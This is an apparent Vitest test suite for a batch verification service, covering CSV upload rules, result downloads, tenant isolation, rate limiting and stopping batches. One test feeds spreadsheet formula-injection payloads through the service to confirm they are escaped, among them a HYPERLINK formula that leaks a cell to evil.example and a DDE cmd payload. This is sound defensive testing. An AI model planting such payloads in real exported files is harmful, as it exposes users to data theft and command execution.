import { readdir, rm } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { and, eq, sql } from 'drizzle-orm';
import { batchTemplate, productByArn } from '@verigate/catalog';
import { BATCH_MESSAGES, BATCH_RESULT_COLUMNS, stopBatchAction } from '@verigate/contracts';
import { batches, transactions } from '../../db/schema.js';
import {
  batchMember,
  createTask,
  dataDir,
  PAN_LITE,
  panCsv,
  panRows,
  parseCsv,
  taskOf,
  tasksOf,
  waitForTask,
  type BatchMember,
} from '../../test/batch-support.js';
import { creditsOf, setCredits } from '../../test/gateway-support.js';
import { ALLOWLISTED, createTestServer, TEST_ADMIN_TOKEN, type TestServer } from '../../test/harness.js';
import { rowTaskId } from './task-id.js';

const RC_ADVANCE = 'in_vehicle_rc_advance';
const RC_REVERSE = 'in_vehicle_rc_reverse';
const OCR = 'in_ocr_card_lite';
/** A small upload limit for these tests; production keeps 100 MB (BATCH_MAX_FILE_BYTES). */
const LIMIT = 64 * 1024;

let server: TestServer;
let folder: string;
let asha: BatchMember;
let ravi: BatchMember;
let nina: BatchMember;
let omar: BatchMember;

const download = (who: BatchMember, batchId: string) =>
  server.app.inject({ method: 'GET', url: `/api/productBatchService/download/${batchId}`, headers: { authorization: `Bearer ${who.token}` } });
const stop = (who: BatchMember, batchId: string) =>
  server.request('POST', '/api/productBatchService/executeAction', { token: who.token, body: { action: stopBatchAction(batchId) } });
const batchFiles = async () => readdir(path.join(folder, 'batches')).catch(() => [] as string[]);

async function created(who: BatchMember, csv: string, form: Record<string, string> = {}): Promise<string> {
  const reply = await createTask(server, who, form, { name: 'rows.csv', content: csv });
  if (reply.status !== 200) throw new Error(`createTask answered ${reply.status}: ${JSON.stringify(reply.body)}`);
  return reply.body.data.batchId as string;
}

beforeAll(async () => {
  folder = await dataDir();
  server = await createTestServer({ ADMIN_TOKEN: TEST_ADMIN_TOKEN, DATA_DIR: folder, BATCH_MAX_FILE_BYTES: String(LIMIT), BATCH_CONCURRENCY: '4' });
  asha = await batchMember(server, ALLOWLISTED[0]!, [PAN_LITE, RC_ADVANCE, RC_REVERSE, OCR]);
  ravi = await batchMember(server, ALLOWLISTED[1]!, [PAN_LITE]);
  nina = await batchMember(server, ALLOWLISTED[2]!, [PAN_LITE], 'ACCOUNT_ACTIVATED');
  omar = await batchMember(server, ALLOWLISTED[3]!, [PAN_LITE], 'ONBOARDING_COMPLETED');
  await setCredits(server, asha.orgId, PAN_LITE, 1000);
}, 120_000);

afterAll(async () => {
  await server.close();
  await rm(folder, { recursive: true, force: true });
});

describe('GET /productBatchService/getBatchTypes/{orgId}', () => {
  it('lists the subscribed products that support batch, with a sample link and response type', async () => {
    const reply = await server.request('GET', `/api/productBatchService/getBatchTypes/${asha.orgId}`, { token: asha.token });
    expect(reply.status).toBe(200);
    const types = reply.body.data as Array<{ name: string; value: string; sample_link: string; response_type: string }>;
    expect(types.map((type) => type.value).sort()).toEqual([PAN_LITE, RC_ADVANCE, RC_REVERSE].sort());
    expect(types.find((type) => type.value === RC_ADVANCE)!.response_type).toBe('INSURANCE');
    expect(types.find((type) => type.value === RC_REVERSE)!.response_type).toBe('FINANCE');
    const pan = types.find((type) => type.value === PAN_LITE)!;
    expect(pan).toMatchObject({ name: productByArn(PAN_LITE)!.name, response_type: 'NONE', sample_link: `/api/productBatchService/sample/${PAN_LITE}` });

    const sample = await server.app.inject({ method: 'GET', url: pan.sample_link, headers: { authorization: `Bearer ${asha.token}` } });
    expect(sample.statusCode).toBe(200);
    expect(sample.headers['content-type']).toContain('text/csv');
    expect(sample.body).toBe(batchTemplate(productByArn(PAN_LITE)!));
    expect((await server.app.inject({ method: 'GET', url: pan.sample_link })).statusCode).toBe(401);
  });

  it('is closed to non-members and to an organisation not fully onboarded', async () => {
    expect((await server.request('GET', `/api/productBatchService/getBatchTypes/${asha.orgId}`, { token: ravi.token })).status).toBe(404);
    const early = await server.request('GET', `/api/productBatchService/getBatchTypes/${nina.orgId}`, { token: nina.token });
    expect(early.status).toBe(409);
    expect(early.body.err.message).toBe('Subscribe a plan to use Batch Service');
    const earlier = await server.request('GET', `/api/productBatchService/getTask?org_id=${omar.orgId}`, { token: omar.token });
    expect(earlier.status).toBe(409);
    expect(earlier.body.err.message).toBe('account_activation_pending');
  });
});

describe('POST /productBatchService/createTask: rules and messages (seed 001 §5)', () => {
  const csv = panCsv(panRows(2));
  it.each([
    [{ batch_name: '' }, 'Batch name cannot be empty'],
    [{ batch_name: 'bad#name' }, 'Enter a valid name'],
    [{ batch_name: '7 rows' }, 'Batch name should not start with a number'],
    [{ batch_type: '' }, 'Select Batch Type'],
    [{ batch_type: OCR }, BATCH_MESSAGES.unknownType],
    [{ batch_type: RC_ADVANCE, response_type: 'FINANCE' }, BATCH_MESSAGES.responseTypeMismatch],
    [{ tpm: 'fast' }, 'Enter a valid tpm'],
    [{ user_email: 'someone@else.io' }, BATCH_MESSAGES.userEmailMismatch],
  ])('%j → %s', async (form, message) => {
    const reply = await createTask(server, asha, form, { name: 'rows.csv', content: csv });
    expect(reply.status).toBe(400);
    expect(reply.body.err.message).toBe(message);
  });

  it('needs a file, a CSV one, with rows', async () => {
    expect((await createTask(server, asha, {})).body.err.message).toBe('Select Batch File');
    expect((await createTask(server, asha, {}, { name: 'rows.xlsx', content: csv })).body.err.message).toBe('Select CSV File Only');
    expect((await createTask(server, asha, {}, { name: 'rows.csv', content: 'customer_pan_number\n\n' })).body.err.message).toBe(BATCH_MESSAGES.emptyFile);
  });

  it('refuses a file over the limit while it streams and keeps nothing of it', async () => {
    const before = await batchFiles();
    const big = panCsv(panRows(Math.ceil(LIMIT / 12) + 10));
    expect(Buffer.byteLength(big)).toBeGreaterThan(LIMIT);
    const reply = await createTask(server, asha, {}, { name: 'big.csv', content: big });
    expect(reply.status).toBe(413);
    expect(reply.body.err.message).toBe('File size should not exceed 100mb');
    expect(await batchFiles()).toEqual(before);
  });

  it('refuses a header with a missing or unknown column before any row runs, naming it', async () => {
    const calls = async () => (await server.db.select().from(transactions).where(eq(transactions.organisationId, asha.orgId))).length;
    const before = { calls: await calls(), batches: (await tasksOf(server, asha)).length, files: await batchFiles() };
    const missing = await createTask(server, asha, {}, { name: 'rows.csv', content: 'customer_dob,name_to_match\n1990-01-01,Asha\n' });
    expect(missing.status).toBe(400);
    expect(missing.body.err.message).toBe('The file is missing the column customer_pan_number');
    const unknown = await createTask(server, asha, {}, { name: 'rows.csv', content: 'customer_pan_number,pan_holder\nABCPE1234F,Asha\n' });
    expect(unknown.body.err.message).toBe('The file has the unknown column pan_holder');
    expect(await calls()).toBe(before.calls);
    expect((await tasksOf(server, asha)).length).toBe(before.batches);
    expect(await batchFiles()).toEqual(before.files);
  });

  it('is closed to another organisation and before full onboarding', async () => {
    const foreign = await createTask(server, ravi, { org_id: asha.orgId }, { name: 'rows.csv', content: csv });
    expect(foreign.status).toBe(404);
    const early = await createTask(server, nina, {}, { name: 'rows.csv', content: csv });
    expect(early.status).toBe(409);
  });
});

describe('a batch run', () => {
  let batchId: string;
  const pans = [...panRows(5), 'ABCPE0101F', 'BADPAN'];

  beforeAll(async () => {
    const credits = await creditsOf(server, asha.orgId, PAN_LITE);
    batchId = await created(asha, panCsv(pans), { batch_name: 'March PAN run' });
    await waitForTask(server, asha, batchId, (task) => task.batchState === 'FINISHED');
    expect(credits - (await creditsOf(server, asha.orgId, PAN_LITE))).toBe(6);
  });

  it('runs every row once through the pipeline with its derived task id, charged as single calls', async () => {
    const task = await taskOf(server, asha, batchId);
    expect(task).toMatchObject({ batchName: 'March PAN run', batchType: PAN_LITE, totalItems: 7, totalProcessed: 7, total_items: 7, total_completed: 5 });
    expect(task.status).toBe('FINISHED');
    const rows = await server.db
      .select()
      .from(transactions)
      .where(
        and(
          eq(transactions.appId, asha.appId),
          sql`${transactions.taskId} in (${sql.join(
            pans.map((_, row) => sql`${rowTaskId(batchId, row)}::uuid`),
            sql`, `,
          )})`,
        ),
      );
    expect(rows).toHaveLength(7);
    expect(rows.map((row) => row.responseCode).sort()).toEqual([100, 100, 100, 100, 100, 101, 106]);
  });

  it('writes the results: the input columns plus response_code, status, message and result, row for row', async () => {
    const reply = await download(asha, batchId);
    expect(reply.statusCode).toBe(200);
    expect(reply.headers['content-disposition']).toContain('March_PAN_run_results.csv');
    const [header, ...rows] = parseCsv(reply.body);
    expect(header).toEqual(['customer_pan_number', 'customer_dob', 'name_to_match', ...BATCH_RESULT_COLUMNS]);
    expect(rows.map((row) => row[0])).toEqual(pans);
    expect(rows.slice(0, 5).every((row) => row[3] === '100' && row[4] === 'SUCCESS' && JSON.parse(row[6]!).pan_number !== undefined)).toBe(true);
    expect(rows[5]!.slice(3, 5)).toEqual(['101', 'FAILURE']);
    expect(rows[6]!.slice(3, 5)).toEqual(['106', 'FAILURE']);
    expect((await taskOf(server, asha, batchId)).downloadInitiated).toBe(true);
  });

  it('is found in API Logs by the batch id, every row a call of the group, to its organisation only', async () => {
    const search = (who: BatchMember) => server.request<{ data: { rows: { group_id: string }[] } }>('GET', `/api/logs?search=${batchId}`, { token: who.token });
    const reply = await search(asha);
    expect(reply.status).toBe(200);
    expect(reply.body.data.rows).toHaveLength(7);
    expect(reply.body.data.rows.every((log) => log.group_id === batchId)).toBe(true);
    expect((await search(ravi)).body.data.rows).toEqual([]);
  });

  it('emails its owner', async () => {
    const mail = await server.mailTo(asha.email);
    expect(mail.some((message) => message.subject === 'Your Verigate batch March PAN run has finished')).toBe(true);
  });

  it('is listed newest first, with the filters of the screen', async () => {
    server.clock.advance(1000);
    const second = await created(asha, panCsv(panRows(1)), { batch_name: 'Second run' });
    const listed = await tasksOf(server, asha);
    expect(listed[0]!.batchId).toBe(second);
    expect((await tasksOf(server, asha, `&product=${RC_ADVANCE}`)).length).toBe(0);
    await waitForTask(server, asha, second, (task) => task.batchState === 'FINISHED');
    expect((await tasksOf(server, asha, '&status=FINISHED')).map((task) => task.batchId)).toContain(batchId);
    expect((await tasksOf(server, asha, '&status=ERROR')).length).toBe(0);
    const now = server.clock.now().getTime();
    expect((await tasksOf(server, asha, `&start_date=${now - 86_400_000}&end_date=${now + 1000}`)).length).toBe(listed.length);
    expect((await tasksOf(server, asha, `&start_date=${now + 60_000}&end_date=${now + 120_000}`)).length).toBe(0);

    const one = await server.request('GET', `/api/productBatchService/getTask?org_id=${asha.orgId}&start_date=${now}`, { token: asha.token });
    expect(one.body.err.message).toBe('Please Select Both Dates');
    const backwards = await server.request('GET', `/api/productBatchService/getTask?org_id=${asha.orgId}&start_date=${now}&end_date=${now - 1}`, {
      token: asha.token,
    });
    expect(backwards.body.err.message).toBe('Please Select A valid Date Range');
    const long = await server.request('GET', `/api/productBatchService/getTask?org_id=${asha.orgId}&start_date=${now - 91 * 86_400_000}&end_date=${now}`, {
      token: asha.token,
    });
    expect(long.body.err.message).toBe('Please Select A valid Date Range');
  });

  it('cannot be seen, stopped or downloaded by another organisation', async () => {
    const seen = await server.request('GET', `/api/productBatchService/getTask?org_id=${asha.orgId}`, { token: ravi.token });
    expect(seen.status).toBe(404);
    expect((await tasksOf(server, ravi)).map((task) => task.batchId)).not.toContain(batchId);
    const stopped = await stop(ravi, batchId);
    expect(stopped.status).toBe(404);
    expect(stopped.body.err.message).toBe('Batch not found');
    const fetched = await download(ravi, batchId);
    expect(fetched.statusCode).toBe(404);
    expect(fetched.body).not.toContain('ABCPE');
  });
});

describe('results file against spreadsheet formulas', () => {
  const payloads = ['=HYPERLINK("http://evil.example/?x="&A2,"Click")', '+1+1', '-2+3', '@SUM(1)', "=cmd|' /C calc'!A0", '\tSUM(1)'];

  it('writes every cell that could start a formula as text after an apostrophe, its text kept', async () => {
    const pans = panRows(payloads.length, 300);
    const quote = (text: string) => `"${text.replace(/"/g, '""')}"`;
    const csv = `customer_pan_number,customer_dob,name_to_match\n${pans.map((pan, row) => `${pan},,${quote(payloads[row]!)}`).join('\n')}\n`;
    const batchId = await created(asha, csv, { batch_name: 'Formula run' });
    await waitForTask(server, asha, batchId, (task) => task.batchState === 'FINISHED');
    const [, ...rows] = parseCsv((await download(asha, batchId)).body);
    expect(rows).toHaveLength(payloads.length);
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(rows.map((row) => row[2])).toEqual(payloads.map((payload) => `'${payload}`));
    expect(rows.map((row) => row[0])).toEqual(pans);
    expect(rows.every((row) => /^\d+$/.test(row[3]!))).toBe(true);
  });
});

describe('tpm and stop', () => {
  it('starts at most tpm rows a minute (by the server clock)', async () => {
    const batchId = await created(asha, panCsv(panRows(5)), { tpm: '2' });
    await waitForTask(server, asha, batchId, (task) => task.totalProcessed === 2);
    // Time on the server's clock does not pass: however long the worker waits, no third row starts.
    await new Promise((resolve) => setTimeout(resolve, 400));
    expect(await taskOf(server, asha, batchId)).toMatchObject({ totalProcessed: 2, batchState: 'RUNNING' });
    const stopEarly = await stop(asha, batchId);
    expect(stopEarly.status).toBe(409);
    expect(stopEarly.body.err.message).toBe(BATCH_MESSAGES.stopNotAllowed);
    server.clock.advance(60_000);
    await waitForTask(server, asha, batchId, (task) => task.totalProcessed === 4);
    await new Promise((resolve) => setTimeout(resolve, 200));
    expect((await taskOf(server, asha, batchId)).totalProcessed).toBe(4);
    server.clock.advance(60_000);
    await waitForTask(server, asha, batchId, (task) => task.batchState === 'FINISHED' && task.totalProcessed === 5);
  });

  it('stops a batch above 90 %: FINISHED with the rows that ran, which download', async () => {
    const batchId = await created(asha, panCsv(panRows(20)), { tpm: '19' });
    await waitForTask(server, asha, batchId, (task) => task.totalProcessed === 19);
    expect((await download(asha, batchId)).statusCode).toBe(409);
    // A burst of stops: one wins, the others find the batch FINISHED.
    const burst = await Promise.all(Array.from({ length: 6 }, () => stop(asha, batchId)));
    expect(burst.map((reply) => reply.status).sort()).toEqual([200, 409, 409, 409, 409, 409]);
    const stopped = burst.find((reply) => reply.status === 200)!;
    expect(stopped.body.data.message).toBe('Batch stopped');
    expect(stopped.body.data.batch).toMatchObject({ batchState: 'FINISHED', totalProcessed: 19, totalItems: 20 });
    const [, ...rows] = parseCsv((await download(asha, batchId)).body);
    expect(rows).toHaveLength(19);
    // However long it waits, the stopped batch runs no further row.
    server.clock.advance(60_000);
    await new Promise((resolve) => setTimeout(resolve, 400));
    const [row] = await server.db.select().from(batches).where(eq(batches.id, batchId));
    expect(row).toMatchObject({ state: 'FINISHED', totalProcessed: 19 });
    expect((await server.mailTo(asha.email)).filter((message) => message.text.includes('was stopped after 19 of 20 rows'))).toHaveLength(1);
  });
});

describe('executeAction', () => {
  it('takes stopBatch/{batchId} only', async () => {
    const reply = await server.request('POST', '/api/productBatchService/executeAction', { token: asha.token, body: { action: 'pauseBatch/x' } });
    expect(reply.status).toBe(400);
    expect(reply.body.err.message).toBe(BATCH_MESSAGES.invalidAction);
    const unknown = await stop(asha, '3f1d2c4b-5a6e-4f70-8a9b-0c1d2e3f4a5b');
    expect(unknown.status).toBe(404);
  });
});
